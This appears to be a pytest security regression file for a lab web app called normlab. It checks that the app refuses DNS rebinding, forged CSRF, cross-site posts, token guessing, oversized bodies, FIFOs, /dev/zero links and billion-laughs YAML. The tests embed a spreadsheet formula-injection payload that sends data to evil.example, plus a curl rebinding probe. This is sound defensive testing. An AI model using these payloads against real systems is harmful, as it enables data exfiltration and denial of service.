"""The web app against the hostile probes of "The web app is safe to run for a lab".

One test per probe: DNS rebinding, forged CSRF pairs and cross-site posts; exposed mode
(token length, where the token comes from, the cookie, guessing, body size, invite caps,
note size); concurrent exports; file modes; and harmless input that used to answer 500.
"""

from __future__ import annotations

import csv
import errno
import io
import os
import re
import select
import socket
import sqlite3
import stat
import time
import zipfile
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from functools import partial
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from normlab.cli import app as cli_app
from normlab.core.csvio import csv_rows
from normlab.core.errors import InputError
from normlab.web import create_app
from normlab.web.guard import LoginLimiter
from normlab.web.store import Store
from tests.helpers.hostile import BILLION_LAUGHS, fifo, finishes
from tests.web.conftest import TOKEN, local, serving, settings_for
from tests.web.test_app import Page, csrf, first_eval


def new_study(client: TestClient | httpx.Client, runs: Path, **fields: str) -> tuple[str, str]:
    """A LoSoNA audit study made through the owner's form: (its page, its invite path)."""
    token = csrf(client, "/studies")
    data = {"kind": "losona-audit", "run": first_eval(runs, "losona"), "n": "3", "csrf": token}
    page = client.post("/studies", data={**data, **fields}, follow_redirects=True)
    assert page.status_code == 200, page.text
    invite = re.search(r'id="invite" href="[^"]*(/join/[^"]+)"', page.text)
    assert invite
    return str(page.url.path), invite.group(1)


def join(app: FastAPI, invite: str, name: str) -> tuple[TestClient, Page]:
    rater = local(app)
    return rater, rater.post(invite, data={"name": name, "csrf": csrf(rater, invite)})


def logged_in(app: FastAPI, **options: Any) -> TestClient:
    client = local(app, **options)
    response = client.post("/login", data={"token": TOKEN, "csrf": csrf(client, "/login")})
    assert response.status_code == 200, response.text
    return client


@pytest.fixture
def umask() -> Iterator[None]:
    """The usual umask (files 0644, folders 0755), whatever the machine's, so the modes the
    tests expect are the app's doing."""
    old = os.umask(0o022)
    yield
    os.umask(old)


def serve_cli(monkeypatch: pytest.MonkeyPatch, *args: str) -> tuple[Any, list[FastAPI]]:
    """``normlab serve ARGS`` with uvicorn stubbed out: (the result, the app it would serve)."""
    import uvicorn

    served: list[FastAPI] = []
    monkeypatch.setattr(uvicorn, "run", lambda app, **_: served.append(app))
    result = CliRunner().invoke(cli_app, ["serve", *args])
    return result, served


# 1. Host names, origin, CSRF


def test_a_rebinding_host_name_is_refused(runs: Path) -> None:
    """``curl -H "Host: attacker.example:PORT" http://127.0.0.1:PORT/`` listed every run."""
    client = local(create_app(settings_for(runs)))
    for host in ("attacker.example:8765", "attacker.example", "127.0.0.1.nip.io", "localhost."):
        response = client.get("/", headers={"Host": host})
        assert response.status_code == 400, host
        assert "losona" not in response.text and "--allow-host" in response.text
    for host in ("127.0.0.1:8765", "localhost", "LOCALHOST:1", "[::1]:8765"):
        assert client.get("/", headers={"Host": host}).status_code == 200, host

    named = local(create_app(settings_for(runs, allow_hosts=["lab.example.org"])))
    assert named.get("/", headers={"Host": "lab.example.org:443"}).status_code == 200
    assert named.get("/", headers={"Host": "attacker.example"}).status_code == 400
    study, _ = new_study(named, runs)
    page = named.get(study, headers={"Host": "lab.example.org"}).text
    assert 'href="http://lab.example.org/join/' in page  # invite links under a served name
    assert named.get(study, headers={"Host": "attacker.example:8765"}).status_code == 400


def test_off_loopback_only_the_bound_address_and_allowed_names_are_served(runs: Path) -> None:
    bound = local(create_app(settings_for(runs, host="10.1.2.3", owner_token=TOKEN)))
    assert bound.get("/login", headers={"Host": "10.1.2.3:8765"}).status_code == 200
    assert bound.get("/login", headers={"Host": "attacker.example"}).status_code == 400
    everywhere = create_app(
        settings_for(runs, host="0.0.0.0", owner_token=TOKEN, allow_hosts=["lab.example.org"])
    )
    client = local(everywhere)
    for host in ("192.168.1.9:8765", "[fe80::1]:8765", "localhost:8765", "lab.example.org"):
        assert client.get("/login", headers={"Host": host}).status_code == 200, host
    assert client.get("/login", headers={"Host": "attacker.example"}).status_code == 400
    with pytest.raises(InputError, match="--allow-host"):
        create_app(settings_for(runs, allow_hosts=["https://lab.example.org/"]))


def test_a_forged_csrf_pair_is_refused(runs: Path) -> None:
    """``normlab_csrf=forged`` with ``csrf=forged`` was accepted: any matching pair was."""
    app = create_app(settings_for(runs))
    data = {"kind": "losona-audit", "run": first_eval(runs, "losona"), "n": "2"}
    forged_id = "f" * 43  # shaped like a session id, chosen by the attacker
    for cookie in ("normlab_csrf=forged; normlab_session=forged", f"normlab_session={forged_id}"):
        response = local(app).post(
            "/studies", data={**data, "csrf": "forged"}, headers={"Cookie": cookie}
        )
        assert response.status_code == 403 and "CSRF" in response.text
    mine, theirs = local(app), local(app)
    token = csrf(mine, "/studies")
    theirs.get("/studies")
    response = theirs.post("/studies", data={**data, "csrf": token})  # another session's token
    assert response.status_code == 403
    assert not list((runs / ".normlab" / "studies").glob("*"))


def test_a_cross_site_post_is_refused(runs: Path) -> None:
    client = local(create_app(settings_for(runs)))
    token = csrf(client, "/studies")
    data = {"kind": "losona-audit", "run": first_eval(runs, "losona"), "n": "2", "csrf": token}
    for headers in (
        {"Origin": "https://evil.example"},
        {"Origin": "null"},
        {"Origin": "http://127.0.0.1:9999"},
        {"Referer": "http://evil.example/page.html"},
    ):
        response = client.post("/studies", data=data, headers=headers)
        assert response.status_code == 403, headers
        assert "Cross-site" in response.text
    same = client.post("/studies", data=data, headers={"Origin": "http://127.0.0.1"})
    assert same.status_code == 200 and 'id="invite"' in same.text


# 2. Exposed mode


def test_owner_tokens_need_32_characters(
    runs: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with pytest.raises(InputError, match=r"--owner-token: .*at least 32 characters"):
        create_app(settings_for(runs, host="0.0.0.0", owner_token="a"))
    result, served = serve_cli(
        monkeypatch, "--runs", str(runs), "--host", "0.0.0.0", "--owner-token", "a"
    )
    assert result.exit_code == 2 and not served
    (line,) = [line for line in result.output.splitlines() if "error" in line]
    assert "--owner-token" in line and "32" in line
    short = tmp_path / "token"
    short.write_text("sesame\n")
    result, served = serve_cli(monkeypatch, "--runs", str(runs), "--owner-token-file", str(short))
    assert result.exit_code == 2 and not served
    assert "--owner-token-file" in result.output and "Traceback" not in result.output


def test_off_loopback_without_a_token_one_is_made_and_printed_once(
    runs: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("NORMLAB_OWNER_TOKEN", raising=False)
    result, (app,) = serve_cli(monkeypatch, "--runs", str(runs), "--host", "0.0.0.0")
    assert result.exit_code == 0, result.output
    (token,) = re.findall(r"owner token \(shown once, stored nowhere\): (\S+)", result.output)
    assert len(token) >= 43 and result.output.count(token) == 1
    client = local(app)
    assert client.get("/").status_code == 403
    assert client.post("/login", data={"token": token, "csrf": csrf(client, "/login")}).is_success
    assert "losona" in client.get("/").text
    files = [path for path in (runs / ".normlab").rglob("*") if path.is_file()]
    assert files
    for path in files:
        assert token.encode() not in path.read_bytes()


def test_the_owner_token_comes_from_a_file_or_the_environment(
    runs: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("NORMLAB_OWNER_TOKEN", raising=False)
    secret = tmp_path / "owner-token"
    secret.write_text(TOKEN + "\n")
    ways = [
        ("--owner-token-file", str(secret)),
        ("--owner-token", TOKEN),
    ]
    for option, value in ways:
        result, (app,) = serve_cli(
            monkeypatch, "--runs", str(runs), "--host", "0.0.0.0", option, value
        )
        assert result.exit_code == 0, result.output
        assert ("visible" in result.output) == (option == "--owner-token"), result.output
        assert "losona" in logged_in(app).get("/").text
    monkeypatch.setenv("NORMLAB_OWNER_TOKEN", TOKEN)
    result, (app,) = serve_cli(monkeypatch, "--runs", str(runs), "--host", "0.0.0.0")
    assert result.exit_code == 0 and "visible" not in result.output
    assert "owner token (shown once" not in result.output
    assert "losona" in logged_in(app).get("/").text


def test_the_owner_cookie_is_a_random_session_not_the_token(runs: Path) -> None:
    app = create_app(settings_for(runs, host="0.0.0.0", owner_token=TOKEN))
    client = local(app)
    before = client.get("/login")
    assert "HttpOnly" in before.headers["set-cookie"]
    response = client.post(
        "/login",
        data={"token": TOKEN, "csrf": csrf(client, "/login")},
        follow_redirects=False,
    )
    assert response.status_code == 303
    cookie = response.headers["set-cookie"]
    assert TOKEN not in cookie and "normlab_owner" not in cookie
    assert cookie.startswith("normlab_session=")
    assert "HttpOnly" in cookie and "SameSite=Strict" in cookie and "Secure" not in cookie
    assert cookie.split(";")[0] != before.headers["set-cookie"].split(";")[0]  # a new session
    secure = TestClient(app, base_url="https://127.0.0.1")
    response = secure.post(
        "/login",
        data={"token": TOKEN, "csrf": csrf(secure, "/login")},
        follow_redirects=False,
    )
    assert response.status_code == 303 and "Secure" in response.headers["set-cookie"]


def test_wrong_owner_tokens_are_rate_limited(runs: Path) -> None:
    """400 wrong guesses in 0.3 s, then the right one worked."""
    app = create_app(settings_for(runs, host="0.0.0.0", owner_token=TOKEN))
    client = local(app)
    token = csrf(client, "/login")
    codes = [
        client.post("/login", data={"token": f"guess-{n}", "csrf": token}).status_code
        for n in range(8)
    ]
    assert codes == [403] * 5 + [429] * 3
    refused = client.post("/login", data={"token": TOKEN, "csrf": token})
    assert refused.status_code == 429 and int(refused.headers["Retry-After"]) > 0
    assert "try again" in refused.text
    app.state.logins.clock = lambda: time.monotonic() + 61  # a minute later
    assert client.post("/login", data={"token": TOKEN, "csrf": token}).status_code == 200


def test_login_attempts_are_capped_over_all_clients() -> None:
    now = [0.0]
    limiter = LoginLimiter(per_client=5, overall=30, window=60, clock=lambda: now[0])
    for n in range(30):
        assert limiter.retry_after(f"10.0.0.{n}") == 0
        limiter.failed(f"10.0.0.{n}")
    assert limiter.retry_after("10.0.1.1") == 60
    now[0] += 30
    assert limiter.retry_after("10.0.1.1") == 30
    now[0] += 31
    assert limiter.retry_after("10.0.1.1") == 0


def test_big_bodies_are_refused_with_413(runs: Path) -> None:
    client = local(create_app(settings_for(runs, host="0.0.0.0", owner_token=TOKEN)))
    token = csrf(client, "/login")
    declared = client.post(
        "/login",
        content=b"token=x&csrf=" + token.encode(),
        headers={
            "Content-Type": "application/x-www-form-urlencoded",
            "Content-Length": str(500 * 2**20),
        },
    )
    assert declared.status_code == 413

    def chunks() -> Iterator[bytes]:
        yield f"csrf={token}".encode()
        for n in range(3):
            yield f"&f{n}=".encode() + b"x" * 300_000

    streamed = client.post(
        "/login", content=chunks(), headers={"Content-Type": "application/x-www-form-urlencoded"}
    )
    assert streamed.status_code == 413
    fields = "&".join(f"f{n}=1" for n in range(500))
    many = client.post(
        "/login",
        content=f"csrf={token}&{fields}".encode(),
        headers={"Content-Type": "application/x-www-form-urlencoded"},
    )
    assert many.status_code == 400 and "fields" in many.text
    upload = client.post("/login", data={"csrf": token}, files={"f": ("f.txt", b"x")})
    assert upload.status_code == 400


def test_a_huge_login_post_is_answered_413_before_it_is_sent(runs: Path) -> None:
    """The probe: one unauthenticated ``POST /login`` of 500 fields of 1 MB grew the server
    by 456 MB, read whole before any answer. Now the 413 comes once 200 kB are in: the
    client sees it while it is still sending (and what it sends after is dropped unread)."""
    with serving(settings_for(runs, owner_token=TOKEN)) as url:
        address = urlsplit(url)
        assert address.hostname and address.port
        connection = socket.create_connection((address.hostname, address.port), timeout=20)
        connection.sendall(
            f"POST /login HTTP/1.1\r\nHost: {address.netloc}\r\n"
            "Content-Type: application/x-www-form-urlencoded\r\n"
            "Transfer-Encoding: chunked\r\n\r\n".encode()
        )
        field, sent = b"x" * 1_000_000, 0  # 1 MB: each field under Starlette's own cap
        for n in range(100):
            part = f"f{n}=".encode() + field + b"&"
            connection.sendall(f"{len(part):x}\r\n".encode() + part + b"\r\n")
            sent += len(part)
            if select.select([connection], [], [], 0.05)[0]:
                break
        else:
            connection.sendall(b"0\r\n\r\n")
        reply = connection.recv(4096)
        connection.close()
    assert reply.startswith(b"HTTP/1.1 413"), reply[:80]
    assert sent < 50 * 10**6, f"no answer before {sent:,} bytes"  # of 100 MB


def test_an_invite_admits_at_most_its_raters_and_notes_are_bounded(runs: Path) -> None:
    app = create_app(settings_for(runs))
    owner = local(app)
    default_page, default = new_study(owner, runs)
    study, invite = new_study(owner, runs, raters="2")
    links = {}
    for name in ("ann", "bo"):
        rater, joined = join(app, invite, name)
        assert joined.status_code == 200
        links[name] = (rater, str(joined.url))  # type: ignore[attr-defined]
    rater, full = join(app, invite, "cy")
    assert full.status_code == 403 and "at most 2 raters" in full.text
    returning, link = links["ann"]
    assert returning.get(link).status_code == 200  # a returning rater still gets in, by link
    assert join(app, default, "cy")[1].status_code == 200
    assert "admits 2 raters" in owner.get(study).text
    assert "admits 50 raters" in owner.get(default_page).text
    bad = owner.post(
        "/studies",
        data={
            "kind": "losona-audit",
            "run": first_eval(runs, "losona"),
            "raters": "0",
            "csrf": csrf(owner, "/studies"),
        },
    )
    assert bad.status_code == 400

    rater, link = links["bo"]
    action = re.search(r'action="(/rate/[^"]+)"', rater.get(link).text)
    assert action
    token = csrf(rater, action.group(1))
    long = rater.post(action.group(1), data={"answer": "yes", "notes": "n" * 4001, "csrf": token})
    assert long.status_code == 413 and "4,000 characters" in long.text
    fits = rater.post(action.group(1), data={"answer": "yes", "notes": "李" * 4000, "csrf": token})
    assert fits.status_code == 200


def test_a_raters_name_opens_nothing_for_a_stranger_with_the_invite(runs: Path) -> None:
    """Anyone with the invite link typed "ann" and got ann's own rating link back: her notes
    on the page, her answers theirs to overwrite. A name already in the study is now refused
    (in any case, width or spacing), and ann gets back in only through her own link."""
    app = create_app(settings_for(runs))
    _, invite = new_study(local(app), runs)
    ann, joined = join(app, invite, "ann")
    link = str(joined.url)  # type: ignore[attr-defined]
    action = re.search(r'action="(/rate/[^"]+)"', joined.text)
    assert action and "/rate/" in link
    notes = "private: my own doubts about item one"
    saved = ann.post(
        action.group(1), data={"answer": "yes", "notes": notes, "csrf": csrf(ann, link)}
    )
    assert saved.status_code == 200
    for name in ("ann", "Ann", " ANN ", "\uff41\uff4e\uff4e"):  # the last: full-width "ann"
        _, page = join(app, invite, name)
        assert page.status_code == 409, name
        assert "already called" in page.text and "your answers" in page.text
        assert "/rate/" not in str(page.url) and notes not in page.text  # type: ignore[attr-defined]
        assert link.split("/rate/")[1] not in page.text
    assert ann.get(action.group(1)).status_code == 200  # her link still opens her items
    assert notes in ann.get(action.group(1)).text
    _, page = join(app, invite, "bo")
    assert page.status_code == 200 and notes not in page.text
    assert "Joined before? Open the rating link" in local(app).get(invite).text


def test_two_joins_with_one_name_at_once_make_one_rater(tmp_path: Path) -> None:
    """The check and the insert are one write transaction: of 8 joins as "ann" at once,
    exactly one gets a rater; the others are told the name is taken."""
    from normlab.web.store import NameTakenError

    store = Store(tmp_path / "state.sqlite3")
    study = store.create_study("losona-audit", "t", "run", [("Q1", "{}")])

    def attempt(_: int) -> str:
        try:
            return store.join(study.id, "ann").token
        except NameTakenError:
            return ""

    with ThreadPoolExecutor(8) as pool:
        tokens = [t for t in pool.map(attempt, range(8)) if t]
    assert len(tokens) == 1
    assert [r.token for r in store.raters(study.id)] == tokens


# 3. Concurrent exports


def test_parallel_exports_of_two_raters_whose_names_share_a_slug_never_mix(runs: Path) -> None:
    """30 parallel downloads for "李" and "王" (both slug ``model``) gave 9 answers of the
    other rater and 14 HTTP 500s."""
    answers = {"李": "yes", "王": "no"}
    with serving(settings_for(runs)) as url, httpx.Client(base_url=url) as owner:
        study, invite = new_study(owner, runs, n="6")
        for name, answer in answers.items():
            with httpx.Client(base_url=url, follow_redirects=True) as rater:
                shown = rater.post(invite, data={"name": name, "csrf": csrf(rater, invite)})
                while 'id="finished"' not in shown.text:
                    item = re.search(r'action="(/rate/[^"]+)"', shown.text)
                    assert item, shown.text
                    token = csrf(rater, item.group(1))
                    shown = rater.post(item.group(1), data={"answer": answer, "csrf": token})
        page = owner.get(study).text
        links = {
            name: re.search(
                rf'data-rater="{name}">.*?href="([^"]+\.csv)"', page, flags=re.DOTALL
            ).group(1)  # type: ignore[union-attr]
            for name in answers
        }
        wanted = [name for _ in range(15) for name in answers]

        def export(name: str) -> tuple[str, int, list[str]]:
            response = owner.get(links[name])
            rows = list(csv.DictReader(io.StringIO(response.text)))
            return name, response.status_code, [row.get("human_complies", "") for row in rows]

        with ThreadPoolExecutor(30) as pool:
            results = list(pool.map(export, wanted))
    assert [status for _, status, _ in results] == [200] * 30
    for name, _, column in results:
        assert column and set(column) == {answers[name]}, (name, column)
    files = list((runs / ".normlab" / "studies").glob("*/ratings-*"))
    assert len(files) == 2 and all(path.suffix == ".csv" for path in files)


def test_a_raters_formula_reaches_the_owners_csv_as_text_and_reads_back(runs: Path) -> None:
    """Notes starting ``=``, ``+``, ``-`` or ``@`` reached the ratings CSV the owner is told to
    open in a spreadsheet, where they ran as formulas (issue 32, item 5). The export marks
    them as text (OWASP), quotes every cell, and the system's import reads the notes back."""
    app = create_app(settings_for(runs))
    owner = local(app)
    study, invite = new_study(owner, runs)
    rater, item = join(app, invite, "ann")
    notes = '=HYPERLINK("http://evil.example/?"&A1,"details")'
    while 'id="finished"' not in item.text:
        action = re.search(r'action="(/rate/[^"]+)"', item.text)
        assert action
        token = csrf(rater, action.group(1))
        item = rater.post(action.group(1), data={"answer": "yes", "notes": notes, "csrf": token})
    link = re.search(r'href="([^"]+\.csv)"', owner.get(study).text)
    assert link
    exported = owner.get(link.group(1)).text
    rows = list(csv.DictReader(io.StringIO(exported, newline="")))
    assert rows and all(row["human_notes"] == "'" + notes for row in rows)
    header = exported.splitlines()[0]
    assert header.startswith('"item_id","') and header.endswith('"')  # every cell quoted
    assert len(re.findall(r'^"A\d{4}","', exported, flags=re.MULTILINE)) == len(rows)
    path = runs / "filled.csv"
    path.write_text(exported, encoding="utf-8")
    assert {row["human_notes"] for _, row in csv_rows(path, ("item_id",))} == {notes}


# 4. File modes


def test_the_state_folder_is_the_owners_alone(runs: Path, umask: None) -> None:
    state = runs / ".normlab"
    state.mkdir(mode=0o755)
    Store(state / "normlab.sqlite3")
    os.chmod(state / "normlab.sqlite3", 0o644)  # as an older normlab left it
    app = create_app(settings_for(runs))
    owner = local(app)
    study, invite = new_study(owner, runs)
    join(app, invite, "ann")
    export = re.search(r'href="([^"]+\.csv)"', owner.get(study).text)
    assert export and owner.get(export.group(1)).status_code == 200

    def mode(path: Path) -> int:
        return stat.S_IMODE(path.stat().st_mode)

    assert mode(state) == 0o700
    for name in ("normlab.sqlite3", "secret.key"):
        assert mode(state / name) == 0o600, name
    assert mode(state / "studies") == 0o700
    (folder,) = (state / "studies").iterdir()
    assert mode(folder) == 0o700
    assert {path.name for path in folder.iterdir()} >= {"items.csv", "items.key.jsonl"}
    for path in folder.iterdir():
        assert mode(path) == 0o600, path.name
    for path in state.glob("normlab.sqlite3*"):
        assert mode(path) == 0o600, path.name


# 5. Harmless input


def test_harmless_input_never_answers_500(runs: Path) -> None:
    client = local(create_app(settings_for(runs)))
    response = client.get("/run", params={"path": "\x00"})
    assert response.status_code == 400 and "not a run" in response.text
    client.get("/studies")
    data = {"kind": "losona-audit", "run": first_eval(runs, "losona"), "csrf": "é" * 43}
    assert client.post("/studies", data=data).status_code == 403

    exposed = local(create_app(settings_for(runs, host="0.0.0.0", owner_token=TOKEN)))
    token = csrf(exposed, "/login")
    wrong = exposed.post("/login", data={"token": "é" * 40, "csrf": token})
    assert wrong.status_code == 403 and "wrong owner token" in wrong.text
    stranger = local(exposed.app)
    cookie = [(b"cookie", "normlab_owner=é; normlab_session=é; normlab_csrf=é".encode())]
    assert stranger.get("/", headers=cookie).status_code == 403
    assert stranger.get("/login", headers=cookie).status_code == 200


def sqlite_error(message: str, code: int, name: str) -> sqlite3.OperationalError:
    """An error as SQLite raises it, with its extended code and name (Python 3.11 sets both)."""
    error = sqlite3.OperationalError(message)
    error.sqlite_errorcode, error.sqlite_errorname = code, name
    return error


@pytest.mark.parametrize(
    ("error", "said"),
    [
        (OSError(errno.ENOSPC, "No space left on device"), "is full"),
        (sqlite3.OperationalError("database or disk is full"), "is full"),
        (sqlite_error("database or disk is full", 13, "SQLITE_FULL"), "is full"),
        # Near full, PRAGMA synchronous=FULL's fsync or a WAL write fails first: these were
        # 500s, and study creation failed so even at 40 KB free.
        (sqlite_error("disk I/O error", 1034, "SQLITE_IOERR_FSYNC"), "could not be written"),
        (sqlite_error("disk I/O error", 778, "SQLITE_IOERR_WRITE"), "could not be written"),
        (sqlite3.OperationalError("disk I/O error"), "could not be written"),
    ],
)
def test_a_full_state_disk_is_a_503_naming_the_folder(
    runs: Path, monkeypatch: pytest.MonkeyPatch, error: Exception, said: str
) -> None:
    app = create_app(settings_for(runs))
    _, invite = new_study(local(app), runs)
    rater, item = join(app, invite, "ann")
    action = re.search(r'action="(/rate/[^"]+)"', item.text)
    assert action

    def full(*_: object) -> None:
        raise error

    monkeypatch.setattr(Store, "rate", full)
    response = rater.post(action.group(1), data={"answer": "yes", "csrf": csrf(rater, "/")})
    assert response.status_code == 503
    assert said in response.text and str(runs / ".normlab") in response.text


def test_a_disk_io_error_on_opening_the_store_is_a_503_for_a_new_study(
    runs: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The probe's own path: every request opens the store and sets ``synchronous=FULL``;
    on a nearly full disk that statement raised SQLITE_IOERR and making a study was a 500."""
    owner = local(create_app(settings_for(runs)))
    token = csrf(owner, "/studies")
    real = sqlite3.connect

    class Failing(sqlite3.Connection):
        def execute(self, sql: str, *args: Any) -> sqlite3.Cursor:
            if sql == "PRAGMA synchronous=FULL":
                raise sqlite_error("disk I/O error", 1034, "SQLITE_IOERR_FSYNC")
            return super().execute(sql, *args)

    monkeypatch.setattr(sqlite3, "connect", lambda *a, **k: real(*a, **k, factory=Failing))
    data = {"kind": "losona-audit", "run": first_eval(runs, "losona"), "n": "3", "csrf": token}
    response = owner.post("/studies", data=data)
    assert response.status_code == 503, response.text
    assert f"The state folder {runs / '.normlab'} could not be written" in response.text
    assert not list((runs / ".normlab" / "studies").glob(".new-*"))  # nothing half-made left


@pytest.mark.parametrize(
    ("system", "option"),
    [("losona", "nonsense"), ("losona", "nosuch::naive"), ("scene", "x" * 5000), ("hsii", "")],
)
def test_a_play_option_the_page_does_not_offer_is_a_400(
    runs: Path, system: str, option: str
) -> None:
    """``POST /play`` with a made-up option opened a seat whose thread died with a traceback
    in the server's log (``ValueError: not enough values to unpack``)."""
    owner = local(create_app(settings_for(runs)))
    data = {"system": system, "player": "tester", "option": option, "csrf": csrf(owner, "/play")}
    response = owner.post("/play", data=data, follow_redirects=False)
    assert response.status_code == 400, response.text
    assert "option: no " in response.text and "item" in response.text
    assert not (runs / "play").exists()  # no seat, no folder


def test_served_files_never_show_a_password_written_before_redaction(runs: Path) -> None:
    """A log index written by an older normlab holds the base URL's password: served as
    text with it redacted; Inspect's journal is not served at all."""
    index = runs / "losona" / "logs.json"
    index.write_text('{"model_base_url": "http://user:CANARY-PASS-1234@host/v1"}')
    journal = runs / "losona" / "_journal" / "start.json"
    journal.parent.mkdir(exist_ok=True)
    journal.write_text('{"x": 1}')
    client = local(create_app(settings_for(runs)))
    served = client.get("/files/losona/logs.json")
    assert served.status_code == 200 and "CANARY-PASS" not in served.text
    assert "user:***@host" in served.text
    assert client.get("/files/losona/_journal/start.json").status_code == 404


# 6. Unbounded reads


def test_compare_lists_no_fifo_and_never_blocks_on_one(runs: Path) -> None:
    """A FIFO named ``*.yaml`` (or ``study-report.json``) under ``--runs`` hung ``/compare``
    for good: the read blocked until a writer came. Both are refused before reading."""
    client = local(create_app(settings_for(runs)))
    (runs / "reports").mkdir()
    with fifo(runs / "study.yaml"), fifo(runs / "reports" / "study-report.json"):
        page = finishes(lambda: client.get("/compare"))
        assert page.status_code == 200
        assert "study.yaml" not in page.text  # no study file
        assert "reports/study-report.json" in page.text and "not a regular file" in page.text
        shown = finishes(lambda: client.get("/compare/study", params={"path": "study.yaml"}))
        assert shown.status_code == 400 and "not a regular file" in shown.text


def test_compare_follows_no_file_link_out_of_the_runs(runs: Path, tmp_path: Path) -> None:
    """A link under ``--runs`` to a study file elsewhere was read and listed by name."""
    outside = tmp_path / "elsewhere" / "private.yaml"
    outside.parent.mkdir()
    outside.write_text("name: private-study-name\nout: x\nsystems: {losona: {}}\nsubjects: []\n")
    (runs / "linked.yaml").symlink_to(outside)
    client = local(create_app(settings_for(runs)))
    page = client.get("/compare")
    assert page.status_code == 200 and "private-study-name" not in page.text
    assert "linked.yaml" not in page.text
    assert client.get("/compare/study", params={"path": "linked.yaml"}).status_code == 400


def test_compare_holds_no_device_and_expands_no_billion_laughs(runs: Path) -> None:
    """A link to ``/dev/zero`` grew the server to 3.1 GB in 3 s, and 342 bytes of YAML aliases
    to 1.4 GB: the first is refused as no regular file before a byte is read (and, opened by
    path, as lying outside the runs), the second when its aliases are counted, before
    anything is built from them."""
    (runs / "zero.yaml").symlink_to("/dev/zero")
    (runs / "laughs.yaml").write_text(
        BILLION_LAUGHS + "name: *i\nout: x\nsystems: {losona: {}}\nsubjects: *i\n"
    )
    client = local(create_app(settings_for(runs)))
    page = finishes(lambda: client.get("/compare"))
    assert page.status_code == 200
    assert "zero.yaml" not in page.text and "laughs.yaml" not in page.text
    for path, said in (("zero.yaml", "not a run under the runs"), ("laughs.yaml", "aliases would")):
        shown = finishes(partial(client.get, "/compare/study", params={"path": path}))
        assert shown.status_code == 400 and said in shown.text, shown.text


@pytest.mark.parametrize("kind", ["fifo", "zero"])
def test_the_runs_page_never_reads_a_crsec_metrics_fifo_or_device(runs: Path, kind: str) -> None:
    """The runs page counted a CRSEC run's hours by reading ``metrics.jsonl`` as it stood: a
    FIFO hung the page for good, a link to ``/dev/zero`` (one endless line) grew it without
    end. The run is listed with the reason instead, and the page answers."""
    folder = next((runs / "crsec").rglob("config.json")).parent
    metrics = folder / "metrics.jsonl"
    metrics.unlink()
    client = local(create_app(settings_for(runs)))
    if kind == "zero":
        metrics.symlink_to("/dev/zero")
        page = finishes(lambda: client.get("/"))
    else:
        with fifo(metrics):
            page = finishes(lambda: client.get("/"))
    assert page.status_code == 200
    assert "not a regular file" in page.text and "losona" in page.text


NOT_LOGS = {
    "notes.txt": (b"hello", "not an Inspect log (those are .eval or .json files)"),
    "sub/other.json": (b'{"a": 1}', "not an Inspect log (eval: Field required)"),
    "sub/members.eval": (None, "not an Inspect log (no _journal/start.json in the archive)"),
}
"""A file under the runs that is no log, and the one line ``/run`` and ``/sample`` answer."""


@pytest.mark.parametrize("route", ["/run", "/sample"])
@pytest.mark.parametrize("name", NOT_LOGS)
def test_a_run_page_of_a_file_that_is_no_log_is_one_line_naming_it_in_the_runs(
    runs: Path, route: str, name: str
) -> None:
    """Issue 41, item 19: ``/run?path=`` a file that is no log answered with the server's
    absolute path, or with pydantic's dump of the file's JSON (input, a link per error)."""
    content, reason = NOT_LOGS[name]
    path = runs / name
    path.parent.mkdir(exist_ok=True)
    if content is None:  # a zip archive, but none of Inspect's members in it
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr("notes.txt", "x")
    else:
        path.write_bytes(content)
    response = local(create_app(settings_for(runs))).get(route, params={"path": name, "n": 0})
    assert response.status_code == 400
    (line,) = re.findall(r'<p class="error">(.*?)</p>', response.text, re.S)
    assert line == f"{name}: {reason}"
    for leak in (str(runs), str(runs.resolve()), "validation error", "pydantic", "input_value"):
        assert leak not in response.text
